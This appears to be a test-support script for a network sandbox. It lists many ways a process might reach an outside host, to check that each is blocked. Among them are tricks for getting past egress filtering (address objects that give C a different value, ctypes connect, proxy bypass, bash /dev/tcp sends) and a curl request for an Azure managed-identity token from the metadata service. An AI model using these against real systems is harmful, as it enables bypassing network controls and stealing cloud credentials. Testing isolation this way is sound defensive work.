"""Ways out of a process, as small programs: each tries to reach a machine outside, and says what it got.

`python ways_out.py FILE` tries them all, one after the other, and writes what they got to a file as JSON. Run nowhere
but in the namespace of `support.outside`, where the machines outside are made of threads.
"""

import _socket
import asyncio
import ctypes
import json
import multiprocessing
import os
import signal
import socket
import struct
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

ADDRESS = "203.0.113.1"
NAME = "outside.example"
NAME_SERVER = "203.0.113.53"
IMDS = "169.254.169.254"
FIRST_PORT = 20000
TOKEN_PATH = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net"

Way = Callable[[int], object]  # takes the port that is its own; may raise

_connect = socket.socket.connect
_getaddrinfo = _socket.getaddrinfo
_python = sys.executable


class ChangingText(str):
    """An address for whoever asks Python, and another one for C."""

    def __str__(self) -> str:
        return "127.0.0.1"

    def __eq__(self, _: object) -> bool:
        return True

    __hash__ = str.__hash__


class ChangingTuple(tuple[Any, ...]):
    """The same of a tuple."""

    def __getitem__(self, _: Any) -> Any:
        return "127.0.0.1"

    def __iter__(self) -> Any:
        return iter(("127.0.0.1", 1))


def _http(port: int) -> object:
    return urllib.request.urlopen(f"http://{NAME}:{port}/", timeout=5).read()


def _raw(port: int) -> None:
    _socket.socket().connect((ADDRESS, port))


def _bound(port: int) -> None:
    with socket.socket() as connection:
        _connect(connection, (ADDRESS, port))


def _look_up(port: int) -> object:
    return _getaddrinfo(f"port-{port}.example", 80)


def _name_to_c(port: int) -> None:
    _socket.socket().connect((f"port-{port}.example", port))


def _datagram(port: int) -> None:
    _socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"data", (ADDRESS, port))


def _changing_text(port: int) -> None:
    _socket.socket().connect((ChangingText(ADDRESS), port))


def _changing_tuple(port: int) -> None:
    with socket.socket() as connection:
        connection.connect(ChangingTuple((ADDRESS, port)))


def _gevent(port: int) -> None:
    _in_fork(lambda: __import__("gevent.socket").socket.create_connection((ADDRESS, port), timeout=5))


def _monkey_patched(port: int) -> None:
    _in_fork(lambda: (__import__("gevent.monkey").monkey.patch_all(), _http(port)))


def _pycurl(port: int) -> None:
    import pycurl

    curl = pycurl.Curl()
    curl.setopt(pycurl.URL, f"http://{ADDRESS}:{port}/")
    curl.setopt(pycurl.TIMEOUT, 5)
    curl.perform()


def _grpc(port: int) -> None:
    import grpc

    with grpc.insecure_channel(f"{ADDRESS}:{port}") as channel:
        grpc.channel_ready_future(channel).result(timeout=1)


def _ctypes(port: int) -> object:
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", port, socket.inet_aton(ADDRESS))
    with socket.socket() as connection:
        return ctypes.CDLL(None).connect(connection.fileno(), address, len(address))


def _uvloop_datagram(port: int) -> None:
    import uvloop

    async def send() -> None:
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
            asyncio.DatagramProtocol, local_addr=("0.0.0.0", 0)
        )
        transport.sendto(b"data", (ADDRESS, port))
        await asyncio.sleep(0.05)
        transport.close()

    uvloop.run(send())


def _run(*command: str, **keywords: Any) -> str:
    result = subprocess.run(command, capture_output=True, text=True, timeout=20, check=False, **keywords)
    return f"{result.stdout}{result.stderr}"


def _curl(port: int) -> list[str]:
    return ["curl", "-s", "-S", "-m", "5", f"http://{NAME}:{port}/"]


def _curl_posix_spawn(port: int) -> None:
    os.waitpid(os.posix_spawnp("curl", _curl(port), os.environ), 0)


def _curl_execve(port: int) -> None:
    _in_fork(lambda: os.execvpe("curl", _curl(port), dict(os.environ)))


def _curl_asyncio(port: int) -> object:
    async def run() -> bytes:
        program = await asyncio.create_subprocess_exec(*_curl(port), stdout=subprocess.PIPE, env=dict(os.environ))
        return (await program.communicate())[0]

    return asyncio.run(run())


def _curl_uvloop(port: int) -> object:
    import uvloop

    async def run() -> None:
        program = await asyncio.create_subprocess_exec(*_curl(port), env=dict(os.environ))
        await program.wait()

    return uvloop.run(run())


def _curl_imds(port: int) -> object:
    return _run("curl", "-s", "-m", "5", "-H", "Metadata: true", "-H", f"Way: {port}", f"http://{IMDS}{TOKEN_PATH}")


def _python_http(*options: str, **keywords: Any) -> Way:
    def way(port: int) -> object:
        code = f"import urllib.request; urllib.request.urlopen('http://{ADDRESS}:{port}/', timeout=5)"
        return _run(_python, *options, "-c", code, **{name: value() for name, value in keywords.items()})

    return way


def _python_socket(*options: str) -> Way:
    return lambda port: _run(_python, *options, "-c", f"import socket; socket.create_connection(({ADDRESS!r}, {port}))")


def _multiprocessing(port: int) -> object:
    with multiprocessing.get_context("spawn").Pool(1) as pool:
        return pool.apply(_http, (port,))


def _node(port: int) -> object:
    return _run("node", "-e", f"require('http').get('http://{ADDRESS}:{port}/').on('error', () => 0)")


def _in_fork(run: Callable[[], object]) -> None:
    """Run something in a fork of this process, which it may change or replace."""
    if process := os.fork():
        os.waitpid(process, 0)
        return
    signal.alarm(10)
    with suppress(BaseException):
        run()
    os._exit(0)


# The first that change this process, and none that leaves a thread before the forks.
WAYS: dict[str, Way] = {
    "an HTTP client of Python": _http,
    "`_socket.socket().connect`": _raw,
    "a method of `socket` that was bound before": _bound,
    "a look-up that was bound before": _look_up,
    "a datagram of `_socket.socket()`": _datagram,
    "a text that changes its answer": _changing_text,
    "a tuple that changes its answer": _changing_tuple,
    "gevent's sockets": _gevent,
    "`gevent.monkey.patch_all()` in the test": _monkey_patched,
    "curl, started by `os.execve` in a fork": _curl_execve,
    "curl, started by `os.posix_spawn`": _curl_posix_spawn,
    "curl, started by `os.system`": lambda port: os.system(" ".join(_curl(port))),
    "curl, started by `subprocess`": lambda port: _run(*_curl(port)),
    "curl, started with `env=dict(os.environ)`": lambda port: _run(*_curl(port), env=dict(os.environ)),
    "curl, started by asyncio": _curl_asyncio,
    "curl, started by uvloop": _curl_uvloop,
    "curl for the metadata service": _curl_imds,
    "wget": lambda port: _run("wget", "-q", "-O", "-", "-T", "5", "-t", "1", f"http://{ADDRESS}:{port}/"),
    "a child Python": _python_socket(),
    "a child of `multiprocessing`": _multiprocessing,
    "an HTTP client of `python -I`": _python_http("-I"),
    "an HTTP client of `python -E`": _python_http("-E"),
    "an HTTP client of `python -S`": _python_http("-S"),
    "an HTTP client of a Python with a `PYTHONPATH` of its own": _python_http(
        env=lambda: {**os.environ, "PYTHONPATH": "."}
    ),
    "pycurl": _pycurl,
    "gRPC": _grpc,
    "the look-up of a name that `_socket.socket().connect` is given": _name_to_c,
    "unconnected datagrams of uvloop": _uvloop_datagram,
    "C's `connect`, by ctypes": _ctypes,
    "a socket of `python -I`, `-E` or `-S`": _python_socket("-I"),
    "a child with `env={}`": _python_http(env=dict),
    "bash's `/dev/tcp`": lambda port: _run("bash", "-c", f"echo data > /dev/tcp/{ADDRESS}/{port}"),
    "`curl --noproxy '*'`": lambda port: _run(*_curl(port), "--noproxy", "*"),
    "curl for FTP": lambda port: _run("curl", "-s", "-S", "-m", "5", f"ftp://{ADDRESS}:{port}/"),
    "Node.js without a client that honours proxies": _node,
}


def try_all(got: Path) -> None:
    """Try all ways, and write what each got to a file as JSON, by name."""

    def attempt(number: int, way: Way) -> str:
        try:
            return str(way(FIRST_PORT + number))
        except Exception as error:
            return repr(error)

    got.write_text(json.dumps({name: attempt(number, WAYS[name]) for number, name in enumerate(WAYS)}))


if __name__ == "__main__":
    try_all(Path(sys.argv[1]))
